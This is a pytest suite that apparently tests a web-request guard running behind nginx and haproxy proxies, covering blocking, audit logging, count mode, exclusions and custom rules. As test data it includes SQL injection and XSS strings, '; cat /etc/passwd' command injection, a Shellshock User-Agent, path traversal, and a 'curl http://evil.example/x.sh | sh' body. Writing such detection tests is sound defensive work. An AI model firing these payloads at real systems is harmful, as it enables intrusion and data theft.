"""Attack patterns before an application, through real proxies: attacks in every part of a request that a proxy tells are refused
and recorded, and what is ordinary goes on."""
import json
import pathlib
import re
import signal
import urllib.parse

import pytest

import server as holdfast
from guarded import application_behind, bearer, haproxy, nginx
from server import until

MAKERS = {"nginx": nginx, "haproxy": haproxy}
ENDPOINTS = "[{path: /status, permission: public}, {path: /api/v1, permission: authenticated}]"
NETWORKS = "{allow: [127.0.0.0/8, 203.0.113.0/24]}"
JSON, FORM = {"Content-Type": "application/json"}, {"Content-Type": "application/x-www-form-urlencoded"}
SQL, SCRIPT = "1' UNION SELECT password FROM users--", "<script>alert(document.cookie)</script>"


def guard_of(**patterns):
    return {"proxies": "[unix]", "networks": NETWORKS, "endpoints": ENDPOINTS,
            "rates": "[{name: desk, by: identity, requests: 100000, burst: 60000}]", **({"patterns": patterns} if patterns else {})}


def server_with(**patterns):
    return holdfast.Server(config={"guard": guard_of(**patterns)})


@pytest.fixture(scope="module")
def desk():
    s = server_with()
    with application_behind(s, MAKERS, seconds=60):
        yield s


@pytest.fixture(params=MAKERS)
def proxy(request, desk):
    return desk.proxies[request.param]


def newest(desk, event):
    found = desk.admin.ok("GET", f"/api/v1/audit/records?type={event}&limit=1")["records"]
    return found[0] if found else None


def forwarded(path, method="GET", **more):
    return {"X-Forwarded-Method": method, "X-Forwarded-Uri": path, "X-Forwarded-For": "203.0.113.9", **more}


def verdict(desk, path, token=None, body=None, **headers):
    """As a proxy with forward authentication asks; with a body, as one that sends it along."""
    method = "GET" if body is None else "POST"
    return desk.api(token, unix=True).call(method, "/api/v1/guard/verdict", raw=body, headers=forwarded(path, method, **headers))


def query(text):
    return "/api/v1/orders?q=" + urllib.parse.quote(text)


# --- through proxies


ATTACKS = {
    "path": ("GET", "/api/v1/files/" + urllib.parse.quote("' or 1=1--", safe=""), {}, None),
    "query": ("GET", query(SQL), {}, None),
    "query-twice": ("GET", "/api/v1/orders?q=" + urllib.parse.quote(urllib.parse.quote(SCRIPT, safe=""), safe=""), {}, None),
    "cookie": ("GET", "/api/v1/orders", {"Cookie": "view=" + urllib.parse.quote(SCRIPT)}, None),
    "header": ("GET", "/api/v1/orders", {"X-Item": "; cat /etc/passwd"}, None),
    "agent": ("GET", "/api/v1/orders", {"User-Agent": "() { :;}; /bin/bash -c 'cat /etc/passwd'"}, None),
}


def refused(desk, proxy, method, path, headers, body):
    before = desk.application.count
    status, said, text = proxy.ask(method, path, {**bearer(desk.token), **headers}, body)
    assert (status, said.get("x-holdfast-verdict")) == (403, "attack-pattern"), (status, said, text)
    assert desk.application.count == before, "the application saw it"
    for word in (b"sqli", b"xss", b"command", b"score"):
        assert word not in text, "the answer teaches whoever tries"
    return newest(desk, "ATTACK_PATTERN")


@pytest.mark.parametrize("where", ATTACKS)
def test_an_attack_in_the_head_is_refused_and_recorded(desk, proxy, where):
    r = refused(desk, proxy, *ATTACKS[where])
    assert r["who"]["actor"] == "user:admin" and r["who"]["source"] == "127.0.0.1"
    assert r["what"]["resource"].startswith("endpoint:GET /api/v1/") and r["what"]["error"] == "attack-pattern"
    assert r["what"]["detail"].startswith("score ") and where.split("-", maxsplit=1)[0] in r["what"]["detail"], r["what"]


BODIES = {
    "json": (JSON, json.dumps({"name": "x", "note": SCRIPT}).encode()),
    "form": (FORM, urllib.parse.urlencode({"name": "x", "note": SQL}).encode()),
    "text": ({"Content-Type": "text/plain"}, b"$(curl http://evil.example/x.sh | sh)"),
}


@pytest.mark.parametrize("kind", BODIES)
def test_an_attack_in_the_body_is_refused_by_a_proxy_that_sends_it(desk, kind):
    headers, body = BODIES[kind]
    for sent in (body, [body]):  # a list goes in chunks
        r = refused(desk, desk.proxies["haproxy"], "POST", "/api/v1/notes", headers, sent)
        assert kind in r["what"]["detail"], r["what"]
    # nginx tells the head alone.
    assert desk.proxies["nginx"].ask("POST", "/api/v1/notes", {**bearer(desk.token), **headers}, body)[0] == 200


def test_an_attack_at_the_end_of_a_long_body_is_seen(desk):
    body = json.dumps({"filler": "x" * 60000, "note": SCRIPT}).encode()
    r = refused(desk, desk.proxies["haproxy"], "POST", "/api/v1/notes", JSON, body)
    assert "json note" in r["what"]["detail"], r["what"]


def test_what_was_not_searched_is_refused(desk):
    big = json.dumps({"filler": "x" * 100000}).encode()
    for headers, body in ((JSON, big), (JSON, [big]), ({**JSON, "Content-Encoding": "gzip"}, b"\x1f\x8b")):
        before = desk.application.count
        status, said, _ = desk.proxies["haproxy"].ask("POST", "/api/v1/notes", {**bearer(desk.token), **headers}, body)
        assert (status, said["x-holdfast-verdict"]) == (403, "not-inspected")
        assert desk.application.count == before
    r = newest(desk, "ATTACK_PATTERN")
    assert (r["what"]["error"], r["what"]["detail"]) == ("not-inspected", "score 0, beyond the limit")


def test_the_client_s_own_word_on_its_body_does_not_count(desk):
    sent = {**bearer(desk.token), **JSON, "X-Envoy-Auth-Partial-Body": "true"}
    assert desk.proxies["haproxy"].ask("POST", "/api/v1/notes", sent, b'{"a": 1}')[0] == 200



def test_ordinary_requests_go_on(desk, proxy):
    agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
              "python-requests/2.31.0", "curl/7.88.1", "okhttp/4.12.0"]
    targets = ["/api/v1/customers?name=O%27Brien", "/api/v1/ticker/BTC-USDT", "/api/v1/ticker?symbol=BTC/USDT%3BPERP",
               "/api/v1/search?q=select+a+broker+from+the+list", "/api/v1/orders?since=2026-01-01T00:00:00Z&limit=100",
               "/api/v1/blob/aGVsbG8gd29ybGQhISEhCg=="]
    for i, target in enumerate(targets):
        status, said, _ = proxy.ask("GET", target, {**bearer(desk.token), "User-Agent": agents[i % len(agents)], "Referer": "https://desk.example/a?b=c"})
        assert status == 200, (target, said)
    bodies = [(JSON, json.dumps({"query": "query Q($id: ID!) { order(id: $id) { id price } }", "variables": {"id": "7"}})),
              (JSON, json.dumps({"note": "It's Pat O'Brien's; see order #5 -- thanks", "side": "buy", "qty": "1.5"})),
              (FORM, urllib.parse.urlencode({"name": "Siobhán O'Connor", "text": "above 100 and below 200, or else wait"}))]
    for headers, body in bodies:
        assert proxy.ask("POST", "/api/v1/orders", {**bearer(desk.token), **headers}, body.encode())[0] == 200, body


# --- what is public, and strangers


def test_strangers_are_searched_on_public_endpoints_and_added_up(desk):
    before = newest(desk, "ANONYMOUS_REFUSALS")
    for _ in range(30):
        got = verdict(desk, "/status?q=" + urllib.parse.quote(SCRIPT))
        assert (got.status, got.code) == (403, "attack-pattern") and "xss" not in got.body.decode()
    assert verdict(desk, "/status?q=hello").status == 200

    def summed():
        r = newest(desk, "ANONYMOUS_REFUSALS")
        return r if r and r != before and r["what"]["error"] == "attack-pattern" else None
    r = until("added up", summed)
    assert r["who"]["source"] == "203.0.113.0/24"
    named = newest(desk, "ATTACK_PATTERN")
    assert named["who"].get("actor", "") == "" and "xss" in named["what"]["detail"]


def test_who_may_not_is_told_so_before_anything_is_searched(desk):
    assert verdict(desk, query(SCRIPT)).code == "unauthenticated"
    assert verdict(desk, "/elsewhere?q=" + urllib.parse.quote(SCRIPT), desk.token).code == "no-rule"


def test_credentials_and_the_proxy_s_word_are_not_searched(desk):
    for name in ("X-Real-IP", "X-Forwarded-Proto"):
        assert verdict(desk, "/api/v1/x", desk.token, **{name: "<script>alert(1)</script>"}).status == 200, name
    assert verdict(desk, "/api/v1/x", desk.token, **{"X-Forwarded-Host": "<script>alert(1)</script>"}).code == "attack-pattern"


def test_a_name_in_the_record_is_safe_to_read(desk):
    body = ('{"a\x1b[2J\u202e": "' + SCRIPT + '"}').encode()
    assert verdict(desk, "/api/v1/x", desk.token, body, **JSON).code == "attack-pattern"
    assert newest(desk, "ATTACK_PATTERN")["what"]["detail"].isprintable()


def test_an_operator_sees_why_a_request_is_refused(desk):
    shown = desk.cli("guard", "check-request", query(SCRIPT)).stdout
    assert "attack-pattern" in shown and "xss-script" in shown and "query" in shown, shown
    body = desk.file("request.json", json.dumps({"note": SQL}))
    got = desk.cli_json("guard", "check-request", "/api/v1/notes", "--header", "Content-Type: application/json", "--body", body)
    assert got["verdict"] == "attack-pattern" and got["score"] >= got["threshold"]
    assert {(h["class"], h["part"], h["parameter"]) for h in got["hits"]} == {("sqli", "json", "note")}, got
    got = desk.cli_json("guard", "check-request", "/api/v1/orders", "--header", "X-Item: ; cat /etc/passwd")
    assert (got["verdict"], got["hits"][0]["parameter"]) == ("attack-pattern", "X-Item")
    assert desk.cli_json("guard", "check-request", "/api/v1/orders?q=hello") == {
        "verdict": "allowed", "score": 0, "threshold": 5, "hits": [], "mode": "block"}
    made = desk.admin.ok("POST", "/api/v1/keys", {"name": "viewer", "roles": ["viewer"], "environment": "development", "usage": "read_only"})
    assert desk.api(made["key"]).call("POST", "/api/v1/guard/check-request", {"target": "/a"}).code == "forbidden"


AMBIGUOUS = ["/a/../b", "/a//b", "/a%2fb", "/a;b", "/a%2525b", "/a#b", "/a\\b", "*", "no-path"]


@pytest.mark.parametrize("target", AMBIGUOUS)
def test_an_operator_sees_that_a_path_is_ambiguous(desk, target):
    """Who asks why a request is refused hears what the guard says of it, whatever its path."""
    got = desk.cli_json("guard", "check-request", target)
    assert got["verdict"] == "path-ambiguous" and got["detail"] and got["hits"] == [], got
    assert verdict(desk, target, desk.token).code == "path-ambiguous"
    shown = desk.cli("guard", "check-request", target)
    assert "path-ambiguous" in shown.stdout and got["detail"] in shown.stdout and "Score" not in shown.stdout
    assert "No rule was asked" in shown.stderr


# --- settings, by one server whose configuration is changed


@pytest.fixture(scope="module")
def tuned():
    s = server_with(mode="count")
    try:
        yield s.begin(seconds=60)
    finally:
        s.remove()


def change(s, **patterns):
    """A new configuration, in force."""
    front = s.child("front")
    s.config["guard"] = guard_of(**patterns)
    s.write_config()
    s.process.send_signal(signal.SIGHUP)
    s.child("front", seconds=60, other_than=front)
    until("serving", lambda: verdict(s, "/status").status == 200, 60)
    s.admin = s.api(s.token)


def findings(s):
    return len(s.admin.ok("GET", "/api/v1/audit/records?type=ATTACK_PATTERN&limit=500")["records"])


def finding(s, part):
    """What hit a rule and went on is recorded behind the answer."""
    def look():
        r = newest(s, "ATTACK_PATTERN")
        return r if r and part in r["what"]["detail"] else None
    return until(f"a record of {part}", look)


def test_what_only_counts_goes_on_and_is_in_the_record(tuned):
    change(tuned, mode="count")
    assert verdict(tuned, query(SQL), tuned.token).status == 200
    r = finding(tuned, "query q")
    assert r["who"]["actor"] == "user:admin" and r["what"].get("error", "") == "", r
    assert r["what"]["detail"].startswith("score ") and "would be refused" in r["what"]["detail"], r
    assert newest(tuned, "REQUEST_ALLOWED")["what"]["detail"] == "authenticated"
    before = findings(tuned)
    for _ in range(200):
        assert verdict(tuned, query(SQL), tuned.token).status == 200
    assert verdict(tuned, "/status?s=" + urllib.parse.quote(SCRIPT)).status == 200
    assert finding(tuned, "query s")["who"].get("actor", "") == ""
    assert findings(tuned) - before <= 6, "whoever trips over a rule all the time fills the log"


def test_exclusions_hold_for_what_they_name_alone(tuned):
    change(tuned, exclusions="[{endpoint: /api/v1/notes, parameter: text, rule: xss}]")
    text = urllib.parse.quote(SCRIPT)
    assert verdict(tuned, f"/api/v1/notes/7?text={text}", tuned.token).status == 200
    for path in (f"/api/v1/notes/7?title={text}", f"/api/v1/notesx?text={text}", f"/api/v1/orders?text={text}",
                 "/api/v1/notes/7?text=" + urllib.parse.quote(SQL)):
        assert verdict(tuned, path, tuned.token).code == "attack-pattern", path
    body = json.dumps({"text": SCRIPT}).encode()
    assert verdict(tuned, "/api/v1/notes", tuned.token, body, **JSON).status == 200
    assert verdict(tuned, "/api/v1/orders", tuned.token, body, **JSON).code == "attack-pattern"


def test_threshold_and_modes_of_rules(tuned):
    change(tuned, threshold=1000)
    assert verdict(tuned, query(SCRIPT), tuned.token).status == 200
    finding(tuned, "xss")
    change(tuned, rules="[{rule: xss, mode: off}, {rule: sqli, mode: count}]")
    before = findings(tuned)
    assert verdict(tuned, query(SCRIPT), tuned.token).status == 200
    assert verdict(tuned, query(SQL), tuned.token).status == 200
    finding(tuned, "only counts")
    assert findings(tuned) == before + 1
    assert verdict(tuned, query("../../../../etc/passwd"), tuned.token).code == "attack-pattern"


def test_longer_bodies_as_configured(tuned):
    body = json.dumps({"filler": "x" * 5000}).encode()
    attack = json.dumps({"note": SCRIPT, "filler": "x" * 5000}).encode()
    change(tuned, body_bytes=2048)
    assert verdict(tuned, "/api/v1/notes", tuned.token, body, **JSON).code == "not-inspected"
    change(tuned, body_bytes=2048, longer="pass")
    assert verdict(tuned, "/api/v1/notes", tuned.token, body, **JSON).status == 200
    finding(tuned, "beyond the limit")
    assert verdict(tuned, "/api/v1/notes", tuned.token, attack, **JSON).code == "attack-pattern"


RULE = """class: command
rules:
  - id: own-word
    score: 9
    description: a word of our own
    pattern: '{}'
    hits: [forbidden]
    misses: [allowed]
"""


def test_rules_of_one_s_own_and_wrong_ones(tuned):
    own = pathlib.Path(tuned.home, "rules")
    own.mkdir()
    (own / "own.yaml").write_text(RULE.format("forbidden"))
    change(tuned, further_dir=own)
    assert verdict(tuned, query("forbidden"), tuned.token).code == "attack-pattern"
    assert verdict(tuned, query("allowed"), tuned.token).status == 200
    assert verdict(tuned, query(SCRIPT), tuned.token).code == "attack-pattern"
    front = tuned.child("front")
    # What is wrong is told with its place, and the old rules stay in force.
    wrong = [(RULE.format("forbid(den"), "own.yaml:6:14"), (RULE.format("allow"), "own.yaml:6:14"), ("class: command\nrules: 5\n", "own.yaml:2:8"),
             ("class: sqli\n- x\n", "own.yaml:2:1")]
    for text, where in wrong:
        (own / "own.yaml").write_text(text)
        tuned.process.send_signal(signal.SIGHUP)
        until(where, lambda where=where: where in tuned.log(2) and "not taken over" in tuned.log(1), 60)
        assert verdict(tuned, query("forbidden"), tuned.token).code == "attack-pattern"
    tuned.config["guard"]["patterns"]["rules"] = "[{rule: sqli-unoin, mode: off}]"
    tuned.write_config()
    (own / "own.yaml").write_text(RULE.format("forbidden"))
    tuned.process.send_signal(signal.SIGHUP)
    until("the name", lambda: "sqli-unoin" in tuned.log(2), 60)
    assert tuned.child("front") == front
    # A front that dies meanwhile comes back with the rules that were in force.
    (own / "own.yaml").write_text("nonsense")
    tuned.kill("front")
    until("serving", lambda: tuned.api(unix=True).call("GET", "/api/v1/health").status == 200, 60)
    until("a verdict", lambda: verdict(tuned, query("forbidden"), tuned.token).code == "attack-pattern", 60)
    tuned.admin = tuned.api(tuned.token)


def test_wrong_rules_stop_the_start(new_server):
    s = new_server(config={"guard": guard_of(mode="block")})
    own = pathlib.Path(s.home, "rules")
    own.mkdir()
    (own / "own.yaml").write_text(RULE.format("forbid(den"))
    s.config["guard"]["patterns"]["further_dir"] = own
    s.write_config()
    with pytest.raises(holdfast.Failed):
        s.start(60)
    assert f"{own}/own.yaml:6:14: own-word: " in s.log(), s.log()
    s.config["guard"]["patterns"] = {"rules": "[{rule: nothing-of-this-name, mode: off}]"}
    s.write_config()
    with pytest.raises(holdfast.Failed):
        s.start(60)
    assert "nothing-of-this-name" in s.log()


def test_nobody_looks_where_the_configuration_says_off(new_server):
    s = new_server(config={"guard": guard_of(mode="off"), "patterns_dir": "/nowhere"})
    s.begin()
    assert verdict(s, "/status?q=" + urllib.parse.quote(SCRIPT)).status == 200
    s.cli_login()
    shown = s.cli("guard", "check-request", query(SCRIPT))  # "allowed, score 0" reads as if somebody had looked
    assert "The rules are off (guard.patterns.mode)" in shown.stderr and re.search(r"Rules +off", shown.stdout) and "core" not in shown.stdout
    assert s.cli_json("guard", "check-request", query(SCRIPT))["mode"] == "off"
    assert s.cli_json("guard", "check-request", "/a/../b")["verdict"] == "path-ambiguous"
